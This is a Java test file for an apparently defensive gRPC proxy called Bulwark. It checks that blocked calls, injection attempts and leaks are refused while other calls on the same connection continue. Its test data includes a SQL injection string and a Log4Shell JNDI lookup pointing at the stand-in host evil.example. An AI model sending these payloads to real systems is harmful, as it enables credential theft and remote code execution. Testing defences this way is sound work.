package io.bulwark.proxy.grpc;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.google.protobuf.ByteString;
import io.bulwark.proxy.testing.Deadline;
import io.bulwark.proxy.testing.NoLeaks;
import io.grpc.CallOptions;
import io.grpc.Channel;
import io.grpc.Metadata;
import io.grpc.Status;
import io.grpc.stub.ClientCalls;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.EnumSource;

/** Calls that Bulwark refuses, among others on the same connection, which go on. */
@ParameterizedClass
@EnumSource(GrpcClient.class)
@ExtendWith(NoLeaks.class)
class GrpcRefusalTest {
    private static final int MANY = 1000;
    private static final int OFTEN = 100;
    private static final String ATTACK = "' UNION SELECT password FROM users--";
    private static final Metadata.Key<String> RULE =
            Metadata.Key.of("x-bulwark-rule", Metadata.ASCII_STRING_MARSHALLER);

    /** Allows every method but Fail. */
    private static final String POLICY = """
            apiVersion: bulwark.io/v1alpha1
            kind: ServiceAllowlist
            metadata: {name: orders}
            spec:
              mode: Enforce
              ingress:
                - id: orders
                  from: [{cidr: 127.0.0.0/8}]
                  grpc:
                    - {service: orders.v1.Orders, methods: [Place, Slow, Large, Watch, Upload, Chat]}
            ---
            apiVersion: bulwark.io/v1alpha1
            kind: InspectionPolicy
            metadata: {name: orders}
            spec: {mode: Enforce}
            """;

    private final GrpcClient client;

    @TempDir
    Path folder;

    private GrpcRig rig;

    GrpcRefusalTest(GrpcClient client) {
        this.client = client;
    }

    @BeforeEach
    void start() throws Exception {
        rig = new GrpcRig(Route.THROUGH_BULWARK, client, folder, POLICY);
    }

    @AfterEach
    void stop() throws Exception {
        rig.close();
    }

    @Test
    void aDeniedCallAmongAThousandChangesTheOutcomeOfNoOther() throws Exception {
        // Given
        var allowed = new ArrayList<Replies>();
        var denied = Replies.asTheyCome();
        for (var number = 0; number < MANY; number++) {
            if (number == MANY / 2) {
                // When
                rig.start(Orders.FAIL, Order.of("denied"), denied);
            }
            var replies = Replies.asTheyCome();
            allowed.add(replies);
            rig.start(Orders.SLOW, Order.counting(number), replies);
        }
        // Then
        assertThat(denied.status().getCode()).isEqualTo(Status.Code.PERMISSION_DENIED);
        rig.awaitWaiting(MANY);
        rig.service.gate.complete(null);
        for (var number = 0; number < MANY; number++) {
            assertThat(allowed.get(number).next()).isEqualTo(Order.counting(number));
            assertThat(allowed.get(number).status()).isEqualTo(Status.OK);
        }
        assertThat(rig.service.seen).hasSize(MANY).doesNotContain(Order.of("denied"));
        assertThat(rig.transports.count()).isEqualTo(1);
    }

    @Test
    void aDeniedCallSaysWhichRuleAndWhichFlow() throws Exception {
        // Given
        var denied = Replies.asTheyCome();
        // When
        rig.start(Orders.FAIL, Order.of("denied"), denied);
        // Then
        var ended = denied.ended();
        assertThat(ended.status().getCode()).isEqualTo(Status.Code.PERMISSION_DENIED);
        assertThat(ended.status().getDescription()).matches("denied by Bulwark: rule allowlist, flow \\S+");
        assertThat(ended.trailers().get(RULE)).isEqualTo("allowlist");
    }

    @Test
    void anAttackInAUnaryMessageNeverReachesTheServer() throws Exception {
        // Given
        var refused = Replies.asTheyCome();
        // When
        rig.start(Orders.PLACE, Order.of("o-1").saying(ATTACK), refused);
        // Then
        assertRefusedFor(refused, "sqli");
        assertThat(rig.unary(Orders.PLACE, Order.of("o-2")).note()).isEqualTo("accepted o-2");
        assertThat(rig.service.seen).containsExactly(Order.of("o-2"));
    }

    @Test
    void anAttackInTheMiddleOfAConversationEndsItAndNoOther() throws Exception {
        // Given
        var hostile = Replies.asTheyCome();
        var friendly = Replies.asTheyCome();
        var attacker = rig.start(Orders.CHAT, hostile);
        var other = rig.start(Orders.CHAT, friendly);
        for (var turn = 1; turn <= 10; turn++) {
            attacker.onNext(Order.counting(turn).saying("hello"));
            other.onNext(Order.counting(turn).saying("hello"));
            assertThat(hostile.next().count()).isEqualTo(turn);
            assertThat(friendly.next().count()).isEqualTo(turn);
        }
        // When
        attacker.onNext(Order.of("last").saying(ATTACK));
        // Then
        assertRefusedFor(hostile, "sqli");
        for (var turn = 11; turn <= 20; turn++) {
            other.onNext(Order.counting(turn).saying("still here"));
            assertThat(friendly.next().count()).isEqualTo(turn);
        }
        other.onCompleted();
        assertThat(friendly.status()).isEqualTo(Status.OK);
        Deadline.await("the server hears of the end", () -> rig.service.cancelled.getCount() == 0);
        assertThat(rig.service.seen).extracting(Order::note).containsOnly("hello", "still here");
        assertThat(rig.transports.count()).isEqualTo(1);
    }

    @Test
    void anAttackInMetadataNeverReachesTheServer() throws Exception {
        // Given
        var metadata = new Metadata();
        metadata.put(MetadataEcho.TEXT, "${jndi:ldap://evil.example/a}");
        var refused = Replies.asTheyCome();
        // When
        start(new Captured().around(rig.channel, metadata), Order.of("o-1"), refused);
        // Then
        assertRefusedFor(refused, "log4shell");
        assertThat(rig.metadata.received).isEmpty();
    }

    @Test
    void anAttackBehindMebibytesOfOneMessageIsRefused() throws Exception {
        // Given
        var refused = Replies.asTheyCome();
        var padding = "lorem ipsum dolor sit amet ".repeat(100_000);
        // When
        rig.start(Orders.PLACE, Order.of("o-1").saying(padding + ATTACK), refused);
        // Then
        assertRefusedFor(refused, "sqli");
        assertThat(rig.unary(Orders.PLACE, Order.of("o-2")).note()).isEqualTo("accepted o-2");
        assertThat(rig.service.seen).containsExactly(Order.of("o-2"));
    }

    @Test
    void anAttackInACompressedMessageIsRefused() throws Exception {
        // Given
        var refused = Replies.asTheyCome();
        var order = Order.of("o-1").saying(ATTACK).with(ByteString.copyFromUtf8("padding ".repeat(1000)));
        // When
        ClientCalls.asyncUnaryCall(
                rig.channel.newCall(Orders.PLACE, CallOptions.DEFAULT.withCompression("gzip")), order, refused);
        // Then
        assertRefusedFor(refused, "sqli");
        assertThat(rig.service.seen).isEmpty();
    }

    @Test
    void aLeakInAnAnswerThatHasBegunIsCutOffWithAReadableStatus() throws Exception {
        // Given
        var replies = Replies.asTheyCome();
        var requests = rig.start(Orders.CHAT, replies);
        requests.onNext(Order.counting(1));
        assertThat(replies.next().note()).startsWith("heard");
        // When
        requests.onNext(Order.counting(OrdersService.FAULTY));
        // Then
        assertRefusedFor(replies, "leak-sql-error");
        assertThat(replies.rest()).isEmpty();
        assertThat(rig.unary(Orders.PLACE, Order.of("next")).note()).isEqualTo("accepted next");
    }

    @Test
    void theSameCallIsTheSameOperationAHundredTimesOnOneConnection() throws Exception {
        // When
        for (var time = 0; time < OFTEN; time++) {
            var refused = Replies.asTheyCome();
            rig.start(Orders.PLACE, Order.counting(time).saying(ATTACK), refused);
            assertRefusedFor(refused, "sqli");
        }
        // Then
        assertOftenTheSameOperation();
    }

    @Test
    void theSameCallIsTheSameOperationOnAHundredConnections() throws Exception {
        // When
        for (var time = 0; time < OFTEN; time++) {
            var refused = Replies.asTheyCome();
            var channel = rig.connect();
            start(channel, Order.counting(time).saying(ATTACK), refused);
            assertRefusedFor(refused, "sqli");
            channel.shutdownNow();
        }
        // Then
        assertOftenTheSameOperation();
    }

    private void assertOftenTheSameOperation() throws Exception {
        Deadline.await("the events are written", () -> denials().size() >= OFTEN);
        assertThat(denials()).hasSize(OFTEN).allSatisfy(event -> {
            assertThat(event.path("protocol").asText()).isEqualTo("grpc");
            assertThat(event.path("operation").asText()).isEqualTo("POST /orders.v1.Orders/Place");
        });
        assertThat(rig.proxy().metrics())
                .contains("bulwark_requests_total{protocol=\"grpc\",verdict=\"denied\"} " + OFTEN);
    }

    private List<JsonNode> denials() {
        return rig.proxy().events().stream()
                .filter(event -> event.path("verdict").asText().equals("denied"))
                .toList();
    }

    private static void start(Channel channel, Order order, Replies replies) {
        ClientCalls.asyncUnaryCall(channel.newCall(Orders.PLACE, CallOptions.DEFAULT), order, replies);
    }

    private static void assertRefusedFor(Replies refused, String group) throws Exception {
        var status = refused.status();
        assertThat(status.getCode()).as("%s", status).isEqualTo(Status.Code.PERMISSION_DENIED);
        assertThat(status.getDescription()).startsWith("denied by Bulwark: rule " + group);
    }
}
